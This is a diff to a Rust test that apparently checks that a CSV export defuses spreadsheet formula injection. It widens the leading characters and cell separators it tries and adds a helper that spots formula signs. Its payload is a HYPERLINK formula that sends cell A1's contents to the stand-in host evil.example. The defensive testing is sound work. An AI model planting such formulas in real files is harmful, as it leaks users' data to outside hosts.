@@ -5,8 +5,8 @@ use testkit::{Answer, App, Cast, Figure, Served, Visitor};
 
 use super::tamper;
 
-/// What a spreadsheet, or the tool before it, may skip.
-const BEFORE: [&str; 8] = ["", " ", "\u{a0}", "\u{3000}", "\"", "\t", "\r", "\n"];
+/// What a spreadsheet, or the tool before it, may skip, or takes for the end of a cell where it is set so.
+const BEFORE: [&str; 11] = ["", " ", "\u{a0}", "\u{3000}", "\"", "\t", "\r", "\n", "x;", "x\t", "x\n"];
 /// What it takes for the beginning of a formula, the wide letters too.
 const SIGNS: [&str; 8] = ["=", "+", "-", "@", "\u{ff1d}", "\u{ff0b}", "\u{ff0d}", "\u{ff20}"];
 const REST: &str = "HYPERLINK(\"http://evil.example/?\"&A1,\"Open, please\")";
@@ -16,6 +16,15 @@ const HARMLESS: [&str; 4] = ["-5", "-2.50", "1-2", "O’Brien"];
 fn payloads() -> Vec<String> {
     let all = BEFORE.iter().flat_map(|before| SIGNS.iter().map(move |sign| format!("{before}{sign}{REST}")));
     all.collect()
+}
+
+/// Whether some spreadsheet takes a part of it for a formula.
+fn runs(cell: &str) -> bool {
+    let begins = |part: &str| {
+        let part = part.trim_start_matches(|letter: char| letter.is_whitespace() || letter == '"');
+        SIGNS.iter().any(|sign| part.starts_with(sign))
+    };
+    cell.split([';', '\t', '\r', '\n']).any(begins)
 }
 
 /// A client for each text, in this order.
@@ -65,18 +74,11 @@ async fn no_cell_of_a_file_runs_in_a_spreadsheet() {
     let found = cells(&export(&cora, json!({ "q": "zqxf" }), &["first_name"]).await);
     assert_eq!(found.len(), hostile.len() + fine.len());
     let (made, left) = found.split_at(hostile.len());
-    let run = made.iter().filter(|cell| !cell.starts_with('\'')).count();
-    // What stands behind the apostrophe is what somebody typed, whole.
-    let kept = made
-        .iter()
-        .zip(&hostile)
-        .filter(|(cell, typed)| cell.strip_prefix('\'') == Some(typed.as_str()))
-        .count();
+    let run = made.iter().filter(|cell| runs(cell)).count();
+    // What stands behind the apostrophes is what somebody typed, whole.
+    let kept = made.iter().zip(&hostile).filter(|(cell, typed)| cell.replace('\'', "") == **typed).count();
     assert_eq!((run, kept, left), (0, hostile.len(), fine.as_slice()));
-    let begins = |text: &&String| {
-        SIGNS.iter().any(|sign| text.trim_start_matches(['"']).trim_start().starts_with(sign))
-    };
-    let stored = hostile.iter().filter(begins).count();
+    let stored = hostile.iter().filter(|typed| runs(typed)).count();
     assert_eq!(stored, hostile.len());
     Figure {
         id: "F1",
